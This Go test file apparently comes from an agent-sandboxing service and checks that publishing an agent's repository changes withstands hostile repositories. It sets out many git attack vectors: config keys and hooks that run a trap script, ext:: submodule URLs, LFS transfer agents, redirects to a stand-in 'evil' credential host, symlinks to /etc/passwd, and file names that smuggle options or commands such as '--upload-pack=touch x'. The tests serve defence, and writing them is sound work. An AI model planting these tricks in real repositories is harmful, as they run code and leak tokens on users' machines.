package publish_test

import (
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"agent-sandboxing/core"
	"agent-sandboxing/core/github/githubtest"
	"agent-sandboxing/core/mirror/mirrortest"
	"agent-sandboxing/core/store/storetest"
	"agent-sandboxing/sandbox/memory"

	"github.com/google/go-cmp/cmp"
)

var full = flag.Bool("full", false, "hostile repositories in the sizes of make hostile-check")

// evil is what a repository's tricks would reach if one worked.
type evil struct {
	dir  string       // a program in it leaves a file when it is run
	host string       // of somebody who would like a token
	hits atomic.Int64 // requests to it
}

func newEvil(t *testing.T) *evil {
	t.Helper()
	e := &evil{dir: t.TempDir()}
	mirrortest.WriteFiles(t, e.dir, map[string]string{"trap*": "#!/bin/sh\ntouch " + e.dir + "/dropped-$$\ncat\n"})
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		e.hits.Add(1)
		w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
		w.WriteHeader(http.StatusUnauthorized)
	}))
	t.Cleanup(server.Close)
	e.host = server.URL
	return e
}

func (e *evil) dropped(t *testing.T) []string {
	t.Helper()
	found, err := filepath.Glob(e.dir + "/dropped-*")
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// settings are those with which a configuration makes git run something or talk to somebody else.
func (e *evil) settings(github string) string {
	trap := e.dir + "/trap"
	return strings.NewReplacer("TRAP", trap, "DIR", e.dir, "EVIL", e.host, "GITHUB", github).Replace(`
[core]
	fsmonitor = TRAP
	hooksPath = DIR/hooks
	sshCommand = TRAP
	askPass = TRAP
	gitProxy = TRAP
	alternateRefsCommand = TRAP
	pager = TRAP
	editor = TRAP
	worktree = DIR
[filter "evil"]
	clean = TRAP
	smudge = TRAP
	process = TRAP
	required = true
[diff]
	external = TRAP
[diff "evil"]
	textconv = TRAP
	command = TRAP
[merge "evil"]
	driver = TRAP
[credential]
	helper = TRAP
[credential "GITHUB"]
	helper = TRAP
[http]
	proxy = EVIL
	sslVerify = false
[url "EVIL/"]
	insteadOf = GITHUB/
	pushInsteadOf = GITHUB/
[remote "origin"]
	url = EVIL/x.git
	pushurl = EVIL/x.git
	proxy = EVIL
	receivepack = TRAP
	uploadpack = TRAP
[submodule "evil"]
	url = ext::TRAP
	update = !TRAP
[alias]
	push = !TRAP
	fetch = !TRAP
	diff-tree = !TRAP
[uploadpack]
	packObjectsHook = TRAP
[include]
	path = DIR/more
[includeIf "gitdir:**"]
	path = DIR/more
[extensions]
	worktreeConfig = true
`)
}

// hostile is a repository with something planted in it. Its session changes README.md and publishes.
type hostile struct {
	name    string
	base    func(o *mirrortest.Objects) []mirrortest.Entry // on GitHub, beside README.md
	work    func(t *testing.T, repo string)                // by the agent, beside that change
	code    string                                         // with which it ends, "" when it is published
	changes []string                                       // on GitHub beside README.md
	leftOut []string                                       // parts of what the result names
}

const changed = "# Widgets\n\nchanged\n"

// Whatever a repository holds, and whatever the agent leaves in it: nothing of it runs or is asked in
// the control plane, and the pull request has the session's change and nothing else.
func TestPublish_OfHostileRepositories(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	e := newEvil(t)
	config := e.settings(strings.TrimSuffix(w.app.GitURL(w.repo), "/"+fullName+".git"))
	mirrortest.WriteFiles(t, e.dir, map[string]string{"more": config, "hooks/pre-push*": "#!/bin/sh\nexec " + e.dir + "/trap\n", "hooks/reference-transaction*": "#!/bin/sh\nexec " + e.dir + "/trap\n"})
	attributes := "* filter=evil diff=evil merge=evil text eol=crlf ident working-tree-encoding=UTF-16\n*.bin filter=lfs diff=lfs merge=lfs -text\n"
	rows := slices.Concat(onGitHub(e, config, attributes), inWorkspace(e, config, attributes))
	for i, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			w.hostile(t, fmt.Sprintf("hostile-%d", i), row)
			if dropped := e.dropped(t); len(dropped) > 0 || e.hits.Load() > 0 {
				t.Errorf("%d traps ran, %d requests reached somebody else", len(dropped), e.hits.Load())
			}
		})
	}
	t.Logf("hostile repositories: %d, 0 traps run, 0 requests elsewhere", len(rows))

	// The traps are live.
	dir := t.TempDir()
	mirrortest.Git(t, "", "init", "-q", dir)
	mirrortest.WriteFiles(t, dir, map[string]string{"a": "a\n", "bait": "[core]\n\tfsmonitor = " + e.dir + "/trap\n"})
	mirrortest.Git(t, dir, "-c", "include.path="+dir+"/bait", "status")
	if len(e.dropped(t)) == 0 {
		t.Error("no trap works, so the test proves nothing")
	}
}

// hostile takes one row from GitHub into a workspace and back.
func (w *world) hostile(t *testing.T, name string, row hostile) {
	t.Helper()
	o := &mirrortest.Objects{}
	entries := []mirrortest.Entry{o.File("README.md", "# Widgets\n")}
	if row.base != nil {
		entries = append(entries, row.base(o)...)
	}
	base := o.Commit(o.Folder(entries...))
	id, err := w.github.AddRepository(githubtest.Repository{Owner: "octo-org", Name: name, Private: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.github.Plant(t.Context(), "octo-org/"+name, "main", base, o.Pack()); err != nil {
		t.Fatal(err)
	}
	w.repo.ID, w.repo.Name, w.base = core.RepositoryID(id), name, base

	s, err := w.store.CreateSession(t.Context(), core.NewSession{
		Session: core.ChatSession{OwnerID: w.owner.ID, Repository: w.repo, BaseBranch: "main", BaseSHA: w.base, Title: "Change it", BashPolicy: core.PolicySeed},
		Text:    "Change it",
	})
	if err != nil {
		t.Fatal(err)
	}
	defer storetest.Exec(t, w.store, "DELETE FROM chat_sessions WHERE id = $1", s.ID)
	dir := t.TempDir()
	ws, err := memory.New(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	spec, pack, err := w.mirror.Checkout(t.Context(), s, false)
	if err == nil {
		err = ws.Checkout(t.Context(), spec, pack)
		_ = pack.Close()
	}
	var result core.PublishResult
	if err == nil {
		repo := filepath.Join(dir, "workspace", "repo")
		mirrortest.WriteFiles(t, repo, map[string]string{"README.md": changed})
		if row.work != nil {
			row.work(t, repo)
		}
		w.ask(t, s, "Change it", "")
		result, err = w.serve(t, w.options, s, ws)
	}
	if core.CodeOf(err) != row.code && (err != nil || row.code != "") {
		t.Fatalf("err = %v, want code %q", err, row.code)
	}
	if err != nil {
		return
	}
	got := strings.Split(strings.TrimSuffix(w.git(t, "diff-tree", "-r", "-z", "--name-only", "--no-renames", base, s.Branch), "\x00"), "\x00")
	want := append(slices.Clone(row.changes), "README.md")
	slices.Sort(want)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("changed on GitHub (-want +got):\n%s", diff)
	}
	if text := w.git(t, "cat-file", "blob", s.Branch+":README.md"); text+"\n" != changed {
		t.Errorf("README.md = %q", text)
	}
	for _, part := range row.leftOut {
		if !slices.ContainsFunc(result.LeftOut, func(l string) bool { return strings.Contains(l, part) }) {
			t.Errorf("left out %q, and not %q", result.LeftOut, part)
		}
	}
}

// onGitHub are repositories that hold something before the session begins.
func onGitHub(e *evil, config, attributes string) []hostile {
	trap := "#!/bin/sh\nexec " + e.dir + "/trap\n"
	const pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"
	folder := func(o *mirrortest.Objects, name string, entries ...mirrortest.Entry) mirrortest.Entry {
		return mirrortest.Entry{Mode: "40000", Name: name, SHA: o.Folder(entries...)}
	}
	link := func(o *mirrortest.Objects, name, target string) mirrortest.Entry {
		return mirrortest.Entry{Mode: "120000", Name: name, SHA: o.Blob(target)}
	}
	submodule := func(url string) func(o *mirrortest.Objects) []mirrortest.Entry {
		return func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{
				{Mode: "160000", Name: "evil", SHA: strings.Repeat("12", 20)},
				o.File(".gitmodules", "[submodule \"evil\"]\n\tpath = evil\n\turl = "+url+"\n\tshallow = true\n"),
			}
		}
	}
	deep := func(folders int) func(o *mirrortest.Objects) []mirrortest.Entry {
		return func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{{Mode: "40000", Name: "d", SHA: o.Nested(o.Folder(o.File("a", "a\n")), folders)}}
		}
	}
	files, large := 1_000, int64(2<<20)
	var slow []hostile
	if *full {
		files, large = 100_000, 150<<20
		slow = []hostile{{name: "a file that grows too large", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{{Mode: "100644", Name: "zeros", SHA: o.Zeros(1 << 20)}}
		}, work: func(t *testing.T, repo string) { zeros(t, filepath.Join(repo, "zeros"), 100<<20+1) }, code: "file_too_large"}}
	}
	return append(slow, []hostile{
		{name: "hooks, and what looks like a repository", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			hook := mirrortest.Entry{Mode: "100755", SHA: o.Blob(trap)}
			var hooks []mirrortest.Entry
			for _, name := range []string{"post-checkout", "pre-push", "reference-transaction", "post-index-change", "pre-receive", "update"} {
				hook.Name = name
				hooks = append(hooks, hook)
			}
			return []mirrortest.Entry{
				o.File("HEAD", "ref: refs/heads/main\n"), o.File("config", config), o.File(".gitconfig", config), folder(o, "hooks", hooks...),
				folder(o, "objects", folder(o, "info", o.File("alternates", e.dir+"\n"))), folder(o, "refs", o.File("x", "x\n")),
				folder(o, ".husky", hooks...), folder(o, "inner.git", o.File("HEAD", "ref: refs/heads/main\n"), o.File("config", config), folder(o, "objects", o.File("x", "")), folder(o, "refs", o.File("x", ""))),
			}
		}},
		{name: "filters and drivers", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{o.File(".gitattributes", attributes), o.File("a.txt", "a\r\nb\n$Id$\n"), folder(o, "d", o.File(".gitattributes", attributes))}
		}},
		{name: "pointers of LFS", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{o.File(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"), o.File("data.bin", pointer), o.File(".lfsconfig", "[lfs]\n\turl = "+e.host+"\n\tstandalonetransferagent = evil\n[lfs \"customtransfer.evil\"]\n\tpath = "+e.dir+"/trap\n")}
		}},
		{name: "a submodule by a program", base: submodule("ext::" + e.dir + "/trap")},
		{name: "a submodule by a file", base: submodule("file://" + e.dir)},
		{name: "a submodule of another host", base: submodule(e.host + "/x.git")},
		{name: "a submodule beside it", base: submodule("../gadgets.git")},
		{name: "twins in case", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{o.File("readme.md", "small\n"), o.File("README.MD", "large\n"), folder(o, "Dir", o.File("x", "1")), folder(o, "dir", o.File("x", "2"))}
		}},
		{name: "twins in Unicode", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{o.File("caf\u00e9", "composed\n"), o.File("cafe\u0301", "in two parts\n"), o.File("\u212bngstrom", "sign\n"), o.File("\u00c5ngstrom", "letter\n")}
		}},
		{name: "names with control bytes", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{o.File("new\nline", "1"), o.File("tab\t\"quote\"", "2"), o.File("\x1b[31mred\x1b]0;title\a", "3"), o.File("\u202etxt.exe", "4"), o.File("back\\slash", "5")}
		}},
		{name: "names that are no UTF-8", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{o.File("latin-\xe9", "1"), o.File("\xff\xfe", "2"), folder(o, "d\x80", o.File("x", "3"))}
		}},
		{name: "names that are options or patterns", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{o.File("--upload-pack=touch x", "1"), o.File("-rf", "2"), o.File(":(top)x", "3"), o.File("*", "4"), o.File("[a-z]?", "5"), o.File("$(touch x)", "6"), o.File("HEAD~1", "7")}
		}},
		{name: "links everywhere", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{
				link(o, "absolute", "/etc/passwd"), link(o, "up", "../../../../../../etc"), link(o, "git", ".git/config"), link(o, "a", "b"), link(o, "b", "a"),
				link(o, "self", "self"), link(o, "proc", "/proc/self/root"), link(o, "line", "x\ny"), link(o, ".gitattributes", "/etc/passwd"), link(o, ".gitignore", "/etc/passwd"), link(o, ".mailmap", "README.md"),
			}
		}},
		{name: "a link that is too long", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{link(o, "long", strings.Repeat("x/", 3000))}
		}, code: "checkout_failed"},
		{name: "folders as deep as a workspace reads", base: deep(254)},
		{name: "folders too deep for a workspace", base: deep(400), code: "snapshot_failed"},
		{name: "a path that no system takes", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			tree := o.Folder(o.File("a", "a\n"))
			for range 30 {
				tree = o.Folder(mirrortest.Entry{Mode: "40000", Name: strings.Repeat("n", 200), SHA: tree})
			}
			return []mirrortest.Entry{{Mode: "40000", Name: "d", SHA: tree}}
		}, code: "checkout_failed"},
		{name: "many files", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			var folders []mirrortest.Entry
			blob := o.Blob("x\n")
			for d := range files / 250 {
				var list []mirrortest.Entry
				for f := range 250 {
					list = append(list, mirrortest.Entry{Mode: "100644", Name: fmt.Sprintf("%d-%d", d, f), SHA: blob})
				}
				folders = append(folders, folder(o, fmt.Sprintf("d%d", d), list...))
			}
			return folders
		}},
		{name: "a large file", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{{Mode: "100644", Name: "zeros", SHA: o.Zeros(large)}}
		}, work: func(t *testing.T, repo string) { zeros(t, filepath.Join(repo, "more"), large+1) }, leftOut: []string{"more: larger than 1 MiB"}},
		{name: "odd modes", base: func(o *mirrortest.Objects) []mirrortest.Entry {
			return []mirrortest.Entry{{Mode: "100664", Name: "group", SHA: o.Blob("g\n")}, {Mode: "100755", Name: "run", SHA: o.Blob(trap)}}
		}},
	}...)
}

// inWorkspace are tricks of the agent, or of what it ran.
func inWorkspace(e *evil, config, attributes string) []hostile {
	plant := func(files map[string]string) func(*testing.T, string) {
		return func(t *testing.T, repo string) { mirrortest.WriteFiles(t, repo, files) }
	}
	many := 3_001
	if *full {
		many = 100_000
	}
	return []hostile{
		{name: "settings, hooks and attributes of the repository", work: func(t *testing.T, repo string) {
			hooks := map[string]string{"config.worktree": config, "info/attributes": attributes, "info/exclude": "README.md\n"}
			for _, name := range []string{"pre-commit", "pre-push", "post-checkout", "reference-transaction", "post-index-change", "fsmonitor-watchman"} {
				hooks["hooks/"+name+"*"] = "#!/bin/sh\nexec " + e.dir + "/trap\n"
			}
			mirrortest.WriteFiles(t, filepath.Join(repo, ".git"), hooks)
			appendTo(t, filepath.Join(repo, ".git/config"), config)
		}},
		{name: "objects from elsewhere", work: plant(map[string]string{".git/objects/info/alternates": e.dir + "\n", ".git/objects/info/http-alternates": e.host + "\n", ".git/commondir": e.dir + "\n"})},
		{name: "a .git that points elsewhere", work: func(t *testing.T, repo string) {
			must(t, os.RemoveAll(filepath.Join(repo, ".git")), os.WriteFile(filepath.Join(repo, ".git"), []byte("gitdir: "+e.dir+"\n"), 0o644))
		}},
		{name: "a .git that is a link", work: func(t *testing.T, repo string) {
			must(t, os.RemoveAll(filepath.Join(repo, ".git")), os.Symlink(e.dir, filepath.Join(repo, ".git")))
		}},
		{name: "a repository in it", work: func(t *testing.T, repo string) {
			mirrortest.Git(t, repo, "init", "-q", "inner")
			mirrortest.WriteFiles(t, filepath.Join(repo, "inner"), map[string]string{"a.txt": "a\n"})
			appendTo(t, filepath.Join(repo, "inner/.git/config"), config)
		}, changes: []string{"inner/a.txt"}, leftOut: []string{"inner/.git"}},
		{name: "a new submodule without its commit", work: plant(map[string]string{".gitmodules": "[submodule \"x\"]\n\tpath = -u./x\n\turl = --upload-pack=x\n"}), code: "snapshot_rejected"},
		{name: "a look-alike of .git", work: plant(map[string]string{".GIT/config": config}), code: "snapshot_rejected"},
		{name: "another one", work: plant(map[string]string{"d/git~1": "x\n"}), code: "snapshot_rejected"},
		{name: "a third one", work: plant(map[string]string{".g\u200cit/hooks/post-checkout*": "x\n"}), code: "snapshot_rejected"},
		{name: "links out", work: plant(map[string]string{"out": "->/etc/passwd", "up": "->../../x", "in": "->README.md"}), changes: []string{"in"}, leftOut: []string{"out: link out", "up: link out"}},
		{name: "odd names", work: plant(map[string]string{"new\nline": "1", "bad\xff": "2", "-rf": "3", ":(exclude)README.md": "4"}), changes: []string{"-rf", ":(exclude)README.md"}, leftOut: []string{`"new\nline": name with`, `"bad\xff": name with`}},
		{name: "attributes and a text that they would change", work: plant(map[string]string{".gitattributes": attributes, "a.txt": "a\r\n$Id$\n"}), changes: []string{".gitattributes", "a.txt"}},
		{name: "no plain files", work: func(t *testing.T, repo string) {
			must(t, syscall.Mkfifo(filepath.Join(repo, "fifo"), 0o644), syscall.Mknod(filepath.Join(repo, "socket"), syscall.S_IFSOCK|0o644, 0))
		}},
		{name: "more files than a pull request takes", work: func(t *testing.T, repo string) {
			files := map[string]string{}
			for n := range many {
				files[fmt.Sprintf("n/%d/%d", n/500, n)] = "x\n"
			}
			mirrortest.WriteFiles(t, repo, files)
		}, code: "too_many_files"},
	}
}

// zeros makes a file of n zero bytes that takes no room.
func zeros(t *testing.T, path string, n int64) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	must(t, f.Truncate(n), f.Close())
}

func appendTo(t *testing.T, path, text string) {
	t.Helper()
	data, err := os.ReadFile(path)
	must(t, err, os.WriteFile(path, append(data, text...), 0o644))
}

func must(t *testing.T, errs ...error) {
	t.Helper()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
}
